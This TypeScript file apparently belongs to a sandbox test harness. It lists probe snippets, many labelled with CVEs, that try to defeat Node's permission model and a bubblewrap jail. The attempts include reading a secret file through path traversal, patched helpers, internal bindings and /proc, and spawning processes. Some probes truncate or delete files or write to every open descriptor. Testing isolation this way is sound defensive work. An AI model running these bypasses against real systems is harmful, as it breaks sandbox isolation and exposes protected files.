/** Node itself: the holes its permission model had, its inner modules, its descriptors. By CVE where there is one. */
import { type Rows, rowsOf } from './probe.ts';

const permission: Rows = {
  'CVE-2023-30583: openAsBlob': "return await (await need('fs').openAsBlob('$secretFile')).text();",
  'CVE-2023-30584: a path that climbs': "return need('fs').readFileSync('/child.cjs/../../../$secretFile', 'utf8');",
  'CVE-2023-32004: a Buffer that climbs':
    "return need('fs').readFileSync(Buffer.from('/child.cjs/../$secretFile'), 'utf8');",
  'CVE-2023-39332: a Uint8Array path':
    "return need('fs').readFileSync(new Uint8Array(Buffer.from('$secretFile')), 'utf8');",
  'CVE-2023-39331: path.resolve is replaced':
    "need('path').resolve = () => '/child.cjs'; return need('fs').readFileSync('$secretFile', 'utf8');",
  'CVE-2023-39331: path.toNamespacedPath is replaced':
    "need('path').toNamespacedPath = () => '/child.cjs'; return need('fs').readFileSync('$secretFile', 'utf8');",
  'CVE-2024-21891: Buffer.from is replaced':
    "need('buffer').Buffer.from = () => 'x'; return need('fs').readFileSync(new Uint8Array([...'$secretFile'].map((c) => c.charCodeAt(0))), 'utf8');",
  'CVE-2024-21896: utf8Write is replaced':
    "need('buffer').Buffer.prototype.utf8Write = () => 0; return need('fs').readFileSync(need('buffer').Buffer.from('$secretFile'), 'utf8');",
  'CVE-2023-30582: watchFile':
    "return await soon((ok) => need('fs').watchFile('$secretFile', { interval: 10 }, (s) => s.size && ok(s.size)));",
  'CVE-2023-30582: watch':
    "return await soon((ok, no) => { need('fs').watch('$secretFile', ok).on('error', no); ok('watching'); });",
  'CVE-2023-32005: statfs': "const s = need('fs').statfsSync('$secretFile'); return s.blocks;",
  'CVE-2023-32003: mkdtemp that climbs': "return need('fs').mkdtempSync('/child.cjs/../tmp/x');",
  'CVE-2023-32003: mkdtempDisposable': "return need('fs').mkdtempDisposableSync('/tmp/x').path;",
  'CVE-2024-22018: lstat': "return need('fs').lstatSync('$secretFile').size;",
  'stat of a Buffer path': "return need('fs').statSync(Buffer.from('$secretFile')).size;",
  'access by promise': "await need('fs/promises').access('$secretFile'); return 'there';",
  exists: "return need('fs').existsSync('$secretFile');",
  'CVE-2026-21715: realpath': "return need('fs').realpathSync('$secretFile');",
  'CVE-2026-106073: realpath by callback':
    "return await soon((ok, no) => need('fs').realpath.native('$secretFile', (e, p) => e ? no(e) : ok(p)));",
  'CVE-2023-30586: setEngine': "need('crypto').setEngine('$secretFile'); return 'loaded';",
  'an OpenSSL store': "return need('crypto').createPrivateKey('file:$secretFile');",
  'CVE-2023-30587: an inspector session':
    'const s = new (need(\'inspector\').Session)(); s.connect(); return await soon((ok) => s.post(\'Runtime.evaluate\', { expression: \'process.mainModule.require("fs").readFileSync("$secretFile","utf8")\' }, (e, r) => ok(r?.result?.value)));',
  'an inspector session to the main thread':
    "const s = new (need('inspector').Session)(); s.connectToMainThread(); return 'connected';",
  'CVE-2025-23083: the inner worker by diagnostics_channel':
    "let C; need('diagnostics_channel').subscribe('worker_threads', ({ worker }) => { C = worker.constructor; }); try { need('module').register('data:text/javascript,'); } catch {} return await soon((ok, no) => new C(\"require('worker_threads').parentPort.postMessage(require('fs').readFileSync('$secretFile','utf8'))\", { eval: true }).on('message', ok).on('error', no));",
  'CVE-2023-32558: internalModuleStat': "return way.binding('fs').internalModuleStat('$secretFile') === 0;",
  'CVE-2023-32559: spawn_sync':
    "const r = way.binding('spawn_sync').spawn({ file: '/node', args: ['node', '-v'], stdio: [] }); if (r.error || r.status !== 0) throw 0; return 'spawned';",
  'process.binding process_wrap':
    "const P = way.binding('process_wrap').Process; const e = new P().spawn({ file: '/node', args: ['node', '-v'] }); if (e) throw e; return 'spawned';",
  'process.binding tcp_wrap':
    "const { TCP } = way.binding('tcp_wrap'); const e = new TCP(0).connect({}, '127.0.0.1', $port); if (e) throw e; return 'connecting';",
  'process.binding pipe_wrap':
    "const { Pipe } = way.binding('pipe_wrap'); const e = new Pipe(0).connect({}, '$socket'); if (e) throw e; return 'connecting';",
  'process.binding contextify':
    "return new (way.binding('contextify').ContextifyScript)('process').runInContext(null)?.versions && way.binding('fs').open && need('fs').readFileSync('$secretFile', 'utf8');",
  'process._linkedBinding': "return way._linkedBinding('fs').internalModuleStat('$secretFile') === 0;",
  internalBinding: "return need('internal/test/binding').internalBinding('fs').readFileUtf8('$secretFile', 0);",
  'internal modules of Node': "return need('internal/bootstrap/realm').internalBinding('fs') && 'reached';",
  'CVE-2023-30581: Module of process.mainModule':
    "return way.mainModule.constructor._load('fs').readFileSync('$secretFile', 'utf8');",
  'CVE-2023-32002: Module._load': "return need('module')._load('fs').readFileSync('$secretFile', 'utf8');",
  'CVE-2023-32006: createRequire':
    "return need('module').createRequire('file:///child.cjs')('fs').readFileSync('$secretFile', 'utf8');",
  'Module._extensions':
    "const m = { _compile(text) { this.text = text; } }; need('module')._extensions['.js'](m, '$secretFile'); return m.text;",
  'require.extensions for JSON':
    "const m = {}; need('module')._extensions['.json'](m, '$secretFile'); return m.exports;",
  registerHooks:
    "need('module').registerHooks({ load: () => ({ format: 'commonjs', source: 'module.exports=require(\"fs\").readFileSync(\"$secretFile\",\"utf8\")', shortCircuit: true }) }); return need('module').createRequire('/')('./x.js');",
  findPackageJSON: "return need('module').findPackageJSON('$secretFile');",
  'the source map cache': "return need('module').findSourceMap('$secretFile')?.payload;",
  'the compile cache':
    "const r = need('module').enableCompileCache('/tmp/cache'); if (!r.directory) throw 0; return r.directory;",
  'CVE-2024-21890: a neighbour of a granted path': "return need('fs').readFileSync('/child.cjs2', 'utf8');",
  'CVE-2026-58043: a radix neighbour of a granted path': "return need('fs').readdirSync('/child').length;",
  'CVE-2024-22017: io_uring':
    "way.env.UV_USE_IO_URING = '1'; return await need('fs/promises').readFile('$secretFile', 'utf8');",
  'CVE-2024-36137: fchmod':
    "const fs = need('fs'); for (let fd = 3; fd < 40; fd += 1) { try { if (fs.fstatSync(fd).isFile()) { fs.fchmodSync(fd, 0o777); return 'changed'; } } catch {} }",
  'CVE-2024-36137: fchown': "need('fs').fchownSync(0, 0, 0); return 'changed';",
  'CVE-2025-55132: futimes':
    "const fs = need('fs'); const fd = fs.openSync('/child.cjs', 'r'); fs.futimesSync(fd, 1, 1); return 'changed';",
  'CVE-2026-21716: FileHandle.chmod':
    "const h = await need('fs/promises').open('/child.cjs', 'r'); await h.chmod(0o777); return 'changed';",
  'CVE-2025-55130: relative symlinks':
    "const fs = need('fs'); fs.symlinkSync('../../../..', '/tmp/probe-link'); return 'linked';",
  'a hard link': "need('fs').linkSync('/node', '/node2'); return 'linked';",
  'CVE-2025-55131: memory that was not cleared':
    "const { Buffer } = need('buffer'); for (let i = 0; i < 2000; i += 1) { if (Buffer.allocUnsafe(4096).includes([...'$yranac'].reverse().join(''))) return 'found'; }",
  'CVE-2025-55131: vm with a timeout':
    "const vm = need('vm'); for (let i = 0; i < 5; i += 1) { try { vm.runInNewContext('for(;;)new Uint8Array(64)', {}, { timeout: 2 }); } catch {} } return new Uint8Array(1e5).find((b) => b !== 0);",
  'CVE-2026-21636: connect to a socket file':
    "return await soon((ok, no) => need('net').connect({ path: '$socket' }, () => ok('connected')).on('error', no));",
  'CVE-2026-21711: listen on a socket file':
    "return await soon((ok, no) => need('net').createServer().on('error', no).listen('/tmp/probe.sock', () => ok('listening')));",
  'CVE-2026-48617: the directory of reports':
    "way.report.directory = '/tmp'; return way.report.writeReport('probe.json');",
  'CVE-2026-58039: a report on a signal':
    "way.report.reportOnSignal = true; way.report.directory = '/tmp'; way.report.filename = 'x'; return way.report.writeReport();",
  'permission.drop and then more':
    "way.permission?.drop?.('fs.read'); way.permission = { has: () => true }; return need('fs').readFileSync('$secretFile', 'utf8');",
  'permission.has lies':
    "Object.defineProperty(way.permission ?? {}, 'has', { value: () => true }); return need('fs').readFileSync('$secretFile', 'utf8');",
  'execArgv of a fork':
    "way.execArgv.length = 0; return await soon((ok, no) => need('child_process').fork('/child.cjs', { execArgv: [] }).on('error', no).on('spawn', () => ok('forked')));",
  cluster:
    "const c = need('cluster'); return await soon((ok, no) => { const w = c.fork(); w.on('error', no).on('online', () => ok('forked')); });",
  WASI: "const { WASI } = need('wasi'); return new WASI({ version: 'preview1', preopens: { '/': '/' } }) && need('fs').readdirSync('/etc').length;",
  'node:sqlite writes a copy':
    "const { DatabaseSync } = need('sqlite'); new DatabaseSync(':memory:').exec(\"vacuum into '/tmp/probe2.db'\"); return 'written';",
  'node:sqlite loads an extension':
    "const { DatabaseSync } = need('sqlite'); new DatabaseSync(':memory:', { allowExtension: true }).loadExtension('$secretFile'); return 'loaded';",
  'node:sqlite backs up':
    "const { DatabaseSync, backup } = need('sqlite'); await backup(new DatabaseSync(':memory:'), '/tmp/probe3.db'); return 'written';",
  'node:ffi':
    "return need('ffi').dlopen('/lib/x86_64-linux-gnu/libc.so.6', { getpid: { parameters: [], result: 'i32' } }).functions.getpid();",
  'node:test runs a file':
    "const s = need('test').run({ files: ['/child.cjs'] }); return await soon((ok, no) => s.on('test:pass', () => ok('ran')).on('error', no));",
  'node:repl keeps a history':
    "const r = need('repl').start({ input: new (need('stream').PassThrough)(), output: new (need('stream').PassThrough)() }); return await soon((ok, no) => r.setupHistory('/tmp/history', (e) => e ? no(e) : need('fs').existsSync('/tmp/history') && ok('kept')));",
  'trace events':
    "const t = need('trace_events').createTracing({ categories: ['node'] }); if (way.permission) { t.enable(); } return way.permission && need('fs').existsSync('/node_trace.1.log');",
  'a CPU profile by flag': "need('v8').setFlagsFromString('--prof'); return need('fs').existsSync('/v8.log');",
  'a heap snapshot near the limit':
    "need('v8').setHeapSnapshotNearHeapLimit(1); return need('fs').writeFileSync('/Heap.snapshot', 'x') ?? 'written';",
  'a startup snapshot': "need('v8').startupSnapshot.setDeserializeMainFunction(() => 0); return 'set';",
  'a certificate file':
    "return need('tls').createSecureContext({ pfx: need('fs').readFileSync('$secretFile') }) && 'read';",
  'a glob': "return need('fs').globSync('$secretFile').join();",
  'a directory handle': "return need('fs').opendirSync('/etc').readSync().name;",
  'a copy': "need('fs').cpSync('$secretFile', '/tmp/copy'); return 'copied';",
  copyFile: "need('fs').copyFileSync('$secretFile', '/tmp/copy'); return 'copied';",
  'a read stream':
    "return await soon((ok, no) => need('fs').createReadStream('$secretFile').on('data', (d) => ok(String(d))).on('error', no));",
  'a write stream':
    "return await soon((ok, no) => need('fs').createWriteStream('/tmp/probe').on('open', () => ok('open')).on('error', no));",
  'a file URL': "return need('fs').readFileSync(new URL('file://$secretFile'), 'utf8');",
  'a file URL of objects':
    "return need('fs').readFileSync({ href: 'file://$secretFile', protocol: 'file:', pathname: '$secretFile', hostname: '', host: '' }, 'utf8');",
  chdir: "way.chdir('/etc'); return way.cwd() === '/etc' && 'moved';",
  umask: "way.umask(0); need('fs').mkdirSync('/probe'); return 'made';",
  truncate: "need('fs').truncateSync('/child.cjs', 0); return 'emptied';",
  unlink: "need('fs').unlinkSync('/child.cjs'); return 'removed';",
  rename: "need('fs').renameSync('/child.cjs', '/x.cjs'); return 'renamed';",
  'mount by root': "need('fs').mkdirSync('/proc'); return need('fs').readdirSync('/proc').length;",
  '/proc/self/root': "return need('fs').readFileSync('/proc/self/root$secretFile', 'utf8');",
  '/proc/self/fd': "return need('fs').readdirSync('/proc/self/fd').join();",
  '/proc/self/mem': "need('fs').openSync('/proc/self/mem', 'r+'); return 'open';",
  '/proc/1/cmdline': "return need('fs').readFileSync('/proc/1/cmdline', 'utf8');",
  '/proc/1/root': "return need('fs').readFileSync('/proc/1/root$secretFile', 'utf8');",
  '/proc/net': "return need('fs').readFileSync('/proc/net/tcp', 'utf8');",
  '/sys': "return need('fs').readdirSync('/sys').join();",
  '/dev': "return need('fs').readdirSync('/dev').join();",
  '/dev/tty': "need('fs').writeSync(need('fs').openSync('/dev/tty', 'w'), 'x'); return 'written';",
  '/dev/shm': "need('fs').writeFileSync('/dev/shm/probe', 'x'); return 'written';",
  '/run': "return need('fs').readdirSync('/run').join();",
  '/home': "return need('fs').readdirSync('/home').join() || need('fs').readdirSync('/root').join();",
};

const descriptors: Rows = {
  'a socket of an open descriptor':
    "const { Socket } = need('net'); for (let fd = 3; fd < 40; fd += 1) { try { if (need('fs').fstatSync(fd).isSocket()) { new Socket({ fd }); return 'a socket'; } } catch {} }",
  // libuv holds one descriptor in reserve for when there are no more: /dev/null, or where there is none the root, here the
  // jail's own. Opened by itself, after bubblewrap has changed the root, and not inherited.
  'a directory descriptor':
    "const fs = need('fs'); for (let fd = 3; fd < 64; fd += 1) { try { const s = fs.fstatSync(fd); const own = fs.statSync('/'); if (s.isDirectory() && (s.dev !== own.dev || s.ino !== own.ino)) return 'a folder'; } catch {} }",
  'a device descriptor':
    "const fs = need('fs'); for (let fd = 0; fd < 64; fd += 1) { try { if (fs.fstatSync(fd).isCharacterDevice()) return 'a device'; } catch {} }",
  'a terminal': "for (let fd = 0; fd < 64; fd += 1) if (need('tty').isatty(fd)) return 'a terminal';",
  'a handle of stdout':
    "const H = way.stdout._handle.constructor; const h = new H(0); for (let fd = 3; fd < 40; fd += 1) if (h.open(fd) === 0 && need('fs').fstatSync(fd).isSocket()) return 'opened';",
  'the resources of Node': 'return way.getActiveResourcesInfo().find((name) => /TCP|TTY|FSReq/.test(name));',
  'closing every descriptor':
    "const fs = need('fs'); for (let fd = 3; fd < 64; fd += 1) { try { fs.closeSync(fd); } catch {} }",
  'writing to every descriptor':
    "const fs = need('fs'); for (let fd = 3; fd < 64; fd += 1) { try { fs.writeSync(fd, 'x'); } catch {} }",
};

/** These change Node itself, which no later probe should have to bear. */
const CHANGES =
  /(need\('\w+'\)|way)[\w.]+ = |defineProperty|setFlags|NearHeapLimit|umask|registerHooks|\.enable\(|fs\.(close|write)Sync\(fd|length = 0|chdir|\.drop/;

export const node = rowsOf({ ...permission, ...descriptors }).map((probe) => ({
  ...probe,
  alone: CHANGES.test(probe.code),
}));
